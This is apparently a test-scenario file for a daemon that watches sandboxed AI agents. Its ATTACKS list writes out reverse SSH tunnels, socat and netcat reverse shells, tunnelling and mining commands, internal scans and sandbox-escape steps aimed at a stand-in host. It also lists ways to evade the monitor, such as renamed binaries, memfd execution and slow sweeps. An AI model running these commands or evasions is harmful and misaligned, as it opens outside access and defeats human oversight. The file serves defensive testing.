"""The red team's scenarios, run live against the daemon (test_redteam.py).

Each is a bash script run inside an agent cgroup of its own, with $H the outside host
(198.51.100.2: sshd, a fake stratum pool on 3333), $SSH the client options and key for
it ($KEY the key alone), $W a working directory, $GPU a fake NVIDIA node, $INTERNAL the first three octets of
the internal network (198.51.100.128/25 to this daemon), $DNS_QUERY a Python statement
prefix that sends a DNS question for its argument to $H, $SITE_PACKAGES where the test
environment's packages are (python3 is the system's, outside temp directories as an agent's
would be), and `tool NAME` that makes a
harmless script called NAME in $W/bin (no real tunnel or mining software is ever run:
names and arguments are what the rules read). An attack names the rules that may catch it
(one is enough) and what containment must hold; a benign scenario must raise nothing
(text: a NOTICE about suspicious text is allowed, never more).
"""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass(frozen=True)
class Scenario:
    name: str
    klass: str  # tunnel, relay, tool, mining, recon, way_out, evasion; benign: session, text
    script: str
    expect: tuple[str, ...] = ()  # attacks: rules that may catch it; () for benign
    reverse_port: int | None = None  # attacks: a port that must not open at $H
    no_pool_bytes: bool = False  # attacks: the stratum pool must see no connection
    cut: bool = False  # attacks: the agent's network must be cut
    gpu_entitled: bool = False  # run in an agent entitled to GPUs
    text: bool = False  # benign: a NOTICE about text is allowed

    @property
    def attack(self) -> bool:
        return bool(self.expect)


REVERSE_SSH = ("Reverse SSH tunnel",)
RELAY = ("Network relay started", "Shell or program bound to a network relay")


def _a(name, klass, script, expect, **kw) -> Scenario:
    return Scenario(name, klass, script, tuple(expect), **kw)


def _b(name, script, text=False, **kw) -> Scenario:
    return Scenario(name, "text" if text else "session", script, text=text, **kw)


ATTACKS = [
    # reverse ssh tunnels, every spelling the client reads
    _a("ssh -R", "tunnel", "ssh $SSH -N -R 2401:127.0.0.1:22 root@$H", REVERSE_SSH, reverse_port=2401, cut=True),
    _a("ssh -fNR joined", "tunnel", "ssh $SSH -fNR2402:127.0.0.1:22 root@$H", REVERSE_SSH, reverse_port=2402,
       cut=True),
    _a("ssh -o RemoteForward=", "tunnel", "ssh $SSH -o 'RemoteForward=2403 127.0.0.1:22' -N root@$H", REVERSE_SSH,
       reverse_port=2403, cut=True),
    _a("ssh -oremoteforward joined, lower case", "tunnel", "ssh $SSH '-oremoteforward 2404 127.0.0.1:22' -N root@$H",
       REVERSE_SSH, reverse_port=2404, cut=True),
    _a("ssh -R after the host", "tunnel", "ssh $SSH root@$H -N -R 2405:127.0.0.1:22", REVERSE_SSH,
       reverse_port=2405, cut=True),
    _a("RemoteForward in a file -F includes", "tunnel",
       "mkdir -p $W/d && printf 'Host *\\n  RemoteForward 2406 127.0.0.1:22\\n' > $W/d/x.conf && "
       "printf \"Include $W/d/*.conf\\n\" > $W/cfg && cd $W && ssh -F cfg $SSH -N root@$H", REVERSE_SSH,
       reverse_port=2406, cut=True),
    _a("ssh -R from a shell's -c", "tunnel", "bash -c \"ssh $SSH -N -R 2407:127.0.0.1:22 root@$H\"", REVERSE_SSH,
       reverse_port=2407, cut=True),
    _a("ssh copied under another name", "evasion",
       "cp /usr/bin/ssh $W/updater && $W/updater $SSH -N -R 2408:127.0.0.1:22 root@$H", REVERSE_SSH,
       reverse_port=2408, cut=True),
    _a("ssh through a symbolic link", "evasion",
       "ln -s /usr/bin/ssh $W/backup && $W/backup $SSH -N -R 2409:127.0.0.1:22 root@$H", REVERSE_SSH,
       reverse_port=2409, cut=True),
    _a("ssh through the dynamic loader", "evasion",
       "$(ls /lib64/ld-linux*.so* | head -1) /usr/bin/ssh $SSH -N -R 2410:127.0.0.1:22 root@$H", REVERSE_SSH,
       reverse_port=2410, cut=True),
    _a("ssh -R hidden after 70 options", "evasion",
       "ssh $(for i in $(seq 70); do printf -- '-o Compression=no '; done) $SSH -N -R 2411:127.0.0.1:22 root@$H",
       REVERSE_SSH + ("Tunnel program's command line too long to read",), reverse_port=2411, cut=True),
    _a("ssh -R exec'd from a thread other than the leader", "evasion",
       "python3 -c \"import os, shlex, threading; threading.Thread(target=os.execv, args=('/usr/bin/ssh', "
       "['ssh', *shlex.split(os.environ['SSH']), '-N', '-R', '2414:127.0.0.1:22', 'root@' + os.environ['H']])).start()"
       "\"", REVERSE_SSH, reverse_port=2414, cut=True),
    _a("ssh -R inside a ProxyCommand", "tunnel",
       "ssh $SSH -o \"ProxyCommand=ssh $SSH -R 2415:127.0.0.1:22 -W %h:%p root@$H\" -N root@$H",
       REVERSE_SSH, reverse_port=2415, cut=True),
    _a("ssh -R through a ProxyJump", "tunnel",
       "printf \"Host *\\n IdentityFile $KEY\\n StrictHostKeyChecking no\\n UserKnownHostsFile /dev/null\\n "
       "BatchMode yes\\nHost jump\\n HostName $H\\n\" > $W/cfg && ssh -F $W/cfg -J root@jump -N -R 2416:127.0.0.1:22 "
       "root@$H", REVERSE_SSH,
       reverse_port=2416, cut=True),
    _a("ssh -w tun device", "tunnel", "ssh $SSH -w any:any -N root@$H", ("SSH tun device tunnel",), cut=True),
    _a("ControlMaster forward added later", "tunnel",
       "ssh $SSH -S $W/ctl -O forward -R 2412:127.0.0.1:22 root@$H", REVERSE_SSH, reverse_port=2412, cut=True),
    _a("renamed ssh-style client with -R", "evasion",
       "tool sync-agent && sync-agent -fNR 2413:127.0.0.1:22 $H", ("Reverse forward flags on an unknown program",),
       cut=True),
    # relays and reverse shells
    _a("socat listener relayed out", "relay", "timeout 2 socat TCP-LISTEN:24201,bind=127.0.0.1,fork TCP:$H:22",
       RELAY),
    _a("socat between two remote ends", "relay", "timeout 2 socat TCP:$H:22 TCP:127.0.0.1:9", RELAY),
    _a("socat reverse shell", "relay", "timeout 2 socat EXEC:/bin/sh TCP:$H:4444", RELAY, cut=True),
    _a("netcat with -e", "relay", "timeout 2 nc -e /bin/sh $H 4444", RELAY, cut=True),
    _a("socat copied under another name", "evasion",
       "cp /usr/bin/socat $W/kworker && timeout 2 $W/kworker TCP-LISTEN:24202,bind=127.0.0.1 TCP:$H:22", RELAY),
    _a("socat run from a memfd", "evasion",
       "timeout 2 python3 -c \"import os; fd = os.memfd_create('k'); os.write(fd, open('/usr/bin/socat', 'rb')"
       ".read()); os.execve(fd, ['k', 'TCP-LISTEN:24203,bind=127.0.0.1', 'TCP:$H:22'], {})\"",
       ("Program run from memory",) + RELAY),
    # tunnelling tools (harmless scripts under their names)
    _a("chisel client", "tool", "tool chisel && chisel client $H:8000 R:2222:localhost:22",
       ("Tunnelling tool started",), cut=True),
    _a("chisel renamed", "evasion", "tool svc && svc client https://$H R:2222:localhost:22",
       ("Chisel-style reverse tunnel from an unknown program",), cut=True),
    _a("frpc renamed, driven by its configuration", "evasion",
       "tool helper && touch $W/frpc.toml && helper -c $W/frpc.toml",
       ("Tunnel client configuration given to a program",), cut=True),
    _a("ngrok", "tool", "tool ngrok && ngrok tcp 22", ("Tunnelling tool started",), cut=True),
    _a("cloudflared quick tunnel", "tool", "tool cloudflared && cloudflared --url http://localhost:8080",
       ("Cloudflare tunnel started",), cut=True),
    _a("VS Code remote tunnel", "tool", "tool code && code tunnel --accept-server-license-terms",
       ("Editor tunnel started",), cut=True),
    _a("tmate session", "tool", "tool tmate && tmate -F", ("Tunnelling tool started",), cut=True),
    _a("tailscaled in userspace", "tool", "tool tailscaled && tailscaled --tun=userspace-networking",
       ("Tunnelling tool started",), cut=True),
    _a("wstunnel", "tool", "tool wstunnel && wstunnel client -R tcp://2222:localhost:22 wss://$H",
       ("Tunnelling tool started",), cut=True),
    # mining
    _a("miner by name connecting to the pool", "mining",
       "tool xmrig && xmrig -o $H:3333 && python3 -c \"import socket; socket.create_connection(('$H', 3333), 2)\"",
       ("Miner program started",), no_pool_bytes=True, cut=True),
    _a("stratum URL given to a renamed program", "mining",
       "tool worker && worker -o stratum+tcp://$H:3333 -u wallet", ("Mining pool URL in arguments",),
       no_pool_bytes=True, cut=True),
    _a("miner-only options", "mining", "tool worker && worker --donate-level 1 --randomx-1gb-pages",
       ("Miner options in arguments",), cut=True),
    _a("connect to a pool port, no options", "mining",
       "python3 -c \"import socket; socket.create_connection(('$H', 3333), 2)\" || true",
       ("Connection refused by policy", "Connection to a mining pool port"), no_pool_bytes=True),
    _a("pool URL to a python script", "mining",
       "printf 'import sys\\n' > $W/m.py && python3 $W/m.py --url=stratum+tcp://$H:3333",
       ("Mining pool URL in arguments",), no_pool_bytes=True, cut=True),
    _a("DNS lookup of a pool domain", "mining",
       "python3 -c \"$DNS_QUERY('xmr.pool.minexmr.com')\"",
       ("DNS lookup of a mining pool",), cut=True),
    _a("a GPU program of its own that talks outside", "mining",
       "printf '#!/bin/bash\\n: <> \"$GPU\" 2>/dev/null\\nexec 3<>/dev/tcp/$H/22\\nsleep 0.3\\n' > $W/trainer "
       "&& chmod +x $W/trainer && $W/trainer", ("GPU program connects outside the node's networks",),
       cut=True, gpu_entitled=True),
    _a("a GPU opened by an agent not entitled to one", "mining",
       "python3 -c \"import os\ntry: os.open('$GPU', os.O_RDWR)\nexcept OSError: pass\"",
       ("GPU opened by an agent not entitled to GPUs", "GPU refused by policy")),
    # reconnaissance
    _a("scanner by name", "recon", "tool nmap && nmap -sT $INTERNAL.0/25", ("Network scanner started",), cut=True),
    _a("internal sweep from python", "recon",
       "python3 -c \"import socket\nfor i in range(130, 160):\n s = socket.socket(); s.setblocking(False); "
       "s.connect_ex(('$INTERNAL.%d' % i, 22)); s.close()\"", ("Internal network scan",), cut=True),
    _a("UDP sweep of the internal network", "recon",
       "python3 -c \"import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range(130, 155): "
       "s.sendto(b'probe', ('$INTERNAL.%d' % i, 161))\"", ("Internal network scan",), cut=True),
    _a("ping sweep of the internal network", "recon",
       "for i in $(seq 130 154); do ping -c 1 -W 1 $INTERNAL.$i >/dev/null 2>&1 & done; wait",
       ("Internal network scan",), cut=True),
    _a("slow sweep, paced under the fast window", "recon",
       "python3 -c \"import socket, time\nfor i in range(130, 163):\n s = socket.socket(); s.setblocking(False); "
       "s.connect_ex(('$INTERNAL.%d' % i, 22)); s.close(); time.sleep(0.55)\"", ("Slow internal sweep",)),
    # ways out of the sandbox
    _a("kernel program tool", "way_out", "bpftool prog show >/dev/null", ("Kernel program tool run by an agent",)),
    _a("ssh server started", "way_out", "/usr/sbin/sshd -t -f /dev/null || true", ("SSH server started by an agent",)),
    _a("the node's sshd on loopback", "way_out",
       "python3 -c \"import socket; socket.socket().connect_ex(('127.0.0.1', 22))\"",
       ("Agent connected to the node's SSH server",)),
    _a("a crontab installed", "way_out", "tool crontab && echo '* * * * * id' | crontab -",
       ("Job scheduled outside the agent by cron or at",)),
    _a("systemd-run", "way_out", "tool systemd-run && systemd-run --user sleep 60",
       ("Service started outside the agent by systemd",)),
    _a("docker run", "way_out", "tool docker && docker run --rm -it alpine sh",
       ("Container started by an agent",)),
    _a("the container runtime's socket", "way_out",
       "python3 -c \"import socket; socket.socket(socket.AF_UNIX).connect_ex('/var/run/docker.sock')\"",
       ("Container runtime socket contacted by an agent",)),
    _a("iptables flushed", "way_out", "tool iptables && iptables -F", ("Firewall changed by an agent",)),
    _a("a program run from memory", "evasion",
       "python3 -c \"import os; fd = os.memfd_create('p'); os.write(fd, open('/usr/bin/sleep', 'rb').read()); "
       "os.execve(fd, ['p', '1'], {})\"", ("Program run from memory",)),
]

BENIGN = [
    _b("git: init, commit, log, branch", "cd $W && git init -q r && cd r && git config user.email a@example.com && "
       "git config user.name a && echo x > f && git add f && git commit -qm one && git log --oneline && "
       "git branch dev && git status --short"),
    _b("git clone and push over ssh", "git init -q --bare $W/srv.git && cd $W && "
       "GIT_SSH_COMMAND=\"ssh $SSH\" git clone -q root@$H:$W/srv.git c && cd c && git config user.email a@example.com "
       "&& git config user.name a && echo y > g && git add g && git commit -qm two && "
       "GIT_SSH_COMMAND=\"ssh $SSH\" git push -q origin HEAD"),
    _b("ssh runs a command", "ssh $SSH root@$H uname -r"),
    _b("ssh through a ProxyJump", "printf \"Host *\\n IdentityFile $KEY\\n StrictHostKeyChecking no\\n "
       "UserKnownHostsFile /dev/null\\n BatchMode yes\\nHost jump\\n HostName $H\\n\" > $W/cfg && "
       "ssh -F $W/cfg -J root@jump root@$H true"),
    _b("ssh with a local forward", "ssh $SSH -L 18080:127.0.0.1:22 root@$H true"),
    _b("ssh with a dynamic forward", "ssh $SSH -D 18081 root@$H true"),
    _b("ssh whose remote command has -R", "ssh $SSH root@$H ls -R /proc/self/fd >/dev/null"),
    _b("scp a file", "echo data > $W/f && scp -O $SSH $W/f root@$H:$W/f.copy && cmp $W/f $W/f.copy"),
    _b("ssh prints its configuration", "ssh -G example.org >/dev/null"),
    _b("ssh-keygen", "ssh-keygen -q -t ed25519 -N '' -f $W/id"),
    _b("ssh -V", "ssh -V"),
    _b("a C build with make -j", "cd $W && for i in 1 2 3 4 5 6; do echo \"int f$i(void){return $i;}\" > f$i.c; done "
       "&& echo 'int main(void){return 0;}' > main.c && printf 'all: prog\\nprog: $(patsubst %%.c,%%.o,$(wildcard *.c))"
       "\\n\\t$(CC) -o $@ $^\\n' > Makefile && make -s -j4 && ./prog"),
    _b("a pytest run", "cd $W && printf 'def test_one():\\n    assert 1 + 1 == 2\\n' > test_x.py && "
       "PYTHONPATH=$SITE_PACKAGES python3 -m pytest -q -p no:cacheprovider test_x.py"),
    _b("python compiles and runs a script", "cd $W && printf 'print(sum(range(10)))\\n' > s.py && python3 s.py && "
       "python3 -m compileall -q ."),
    _b("a local dev server and its client", "cd $W && (python3 -m http.server 18090 --bind 127.0.0.1 "
       ">/dev/null 2>&1 &) && sleep 0.5 && python3 -c \"import urllib.request; "
       "urllib.request.urlopen('http://127.0.0.1:18090/', timeout=3).read()\""),
    _b("NCCL-style rendezvous on loopback", "python3 -c \"import socket, threading\n"
       "s = socket.create_server(('127.0.0.1', 0)); port = s.getsockname()[1]\n"
       "t = threading.Thread(target=lambda: [s.accept() for _ in range(4)]); t.start()\n"
       "c = [socket.create_connection(('127.0.0.1', port)) for _ in range(4)]\nt.join()\""),
    _b("an entitled GPU job in an ML runtime", "python3 -c \"import os\ntry: os.close(os.open('$GPU', os.O_RDWR))\n"
       "except OSError: pass\nimport socket; socket.create_connection(('$H', 22), 3).close()\"", gpu_entitled=True),
    _b("downloads from outside over HTTPS-like ports", "python3 -c \"import socket\nfor _ in range(20): "
       "socket.create_connection(('$H', 22), 3).close()\""),
    _b("socat as a client", "echo | timeout 3 socat - TCP:$H:22 >/dev/null || true"),
    _b("netcat checks a port", "nc -z -w 2 $H 22"),
    _b("netcat listener on loopback", "(timeout 2 nc -l 127.0.0.1 18095 >/dev/null &) && sleep 0.3 && "
       "echo hi | nc -N 127.0.0.1 18095 || true"),
    _b("a DNS question for an ordinary name", "python3 -c \"$DNS_QUERY('example.org')\""),
    _b("archives", "cd $W && mkdir -p a && echo x > a/x && tar czf a.tgz a && tar tzf a.tgz >/dev/null && "
       "gzip -k a/x && ls -la a >/dev/null"),
    _b("finding files", "find /usr/share/doc -maxdepth 1 -name 'open*' >/dev/null; du -sh $W >/dev/null; ls /"),
    _b("process listing", "ps aux >/dev/null && top -b -n 1 >/dev/null"),
    _b("system information", "id && uname -a && env >/dev/null && cat /proc/cpuinfo >/dev/null"),
    _b("network information", "ip addr >/dev/null && ip route >/dev/null && ip -6 route show >/dev/null"),
    _b("service status", "systemctl list-units --no-pager >/dev/null 2>&1 || true"),
    _b("a container runtime that lists", "tool docker && docker ps && docker images"),
    _b("crontab listed", "tool crontab && crontab -l"),
    _b("a copy of socat kept as a backup", "cp /usr/bin/socat $W/socat.bak && ls -la $W/socat.bak"),
    _b("cloudflared's version", "tool cloudflared && cloudflared --version"),
    _b("VS Code opens a folder", "tool code && code $W"),
    _b("a subprocess storm of a test run", "for i in $(seq 60); do /bin/true; done; "
       "python3 -c \"import subprocess\nfor _ in range(20): subprocess.run(['true'])\""),
    _b("editing a tunnel configuration", "printf 'serverAddr = \"x\"\\n' > $W/frpc.toml && cat $W/frpc.toml && "
       "sed -i s/x/y/ $W/frpc.toml"),
    _b("many hosts outside, few inside", "python3 -c \"import socket\nfor i in range(3, 40):\n"
       " s = socket.socket(); s.setblocking(False); s.connect_ex(('198.51.100.%d' % i, 443)); s.close()\n"
       "for i in range(130, 135):\n s = socket.socket(); s.setblocking(False); "
       "s.connect_ex(('$INTERNAL.%d' % i, 443)); s.close()\""),
    _b("a program built in the workspace runs", "cd $W && echo 'int main(void){return 0;}' > t.c && cc -o t t.c "
       "&& ./t"),
    # text that mentions attacks: at most a NOTICE, never a kill or a cut
    _b("grep for a pool URL", "mkdir -p $W/src && echo 'url = \"stratum+tcp://pool.example.com:3333\"' > "
       "$W/src/c.py && grep -rn 'stratum+tcp://' $W/src", text=True),
    _b("grep for an ssh -R spelling", "echo 'ssh -R 8080:localhost:80 host' > $W/n && grep -R -- '-R 8080:localhost:80' "
       "$W/n", text=True),
    _b("echo a tunnel command into notes", "echo 'ssh -fNR 2222:localhost:22 203.0.113.5' >> $W/notes.txt",
       text=True),
    _b("python prints a pool URL", "python3 -c \"print('stratum+tcp://pool.example.com:3333')\"", text=True),
    _b("a shell echoes miner options", "bash -c 'echo --donate-level 1 --randomx-1gb-pages'", text=True),
    _b("sed edits a file with a pool URL", "echo 'stratum+tcp://a.example:1' > $W/p && sed -i 's/a.example/b/' $W/p",
       text=True),
]

SCENARIOS = ATTACKS + BENIGN
